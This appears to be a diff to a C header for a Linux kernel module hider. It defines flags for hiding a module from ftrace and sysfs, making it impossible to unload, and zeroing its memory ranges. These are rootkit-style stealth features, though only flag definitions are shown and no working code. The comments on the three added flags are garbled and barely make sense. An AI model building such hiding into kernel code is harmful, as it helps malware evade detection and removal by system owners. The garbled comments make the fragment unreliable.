@@ -17,5 +17,9 @@
 #define HIDE_FTRACE	(1U << 11) /* without ftrace records, for good */
 #define HIDE_SYSFS	(1U << 12) /* kobject_del(); it can't be unloaded any more */
 #define HIDE_SYSFS_FLAG	(1U << 13) /* the same, and the kobject says that it is there */
+/* To the head of the chain alone, after what the two above tell: */
+#define HIDE_COME	(1U << 14) /* that it comes */
+#define HIDE_COPY	(1U << 15) /* that a copy of its struct module comes, named copy */
+#define HIDE_RANGES	(1U << 16) /* its memory ranges are zeroed, their addresses, too */
 
 #endif /* HIDER_H */
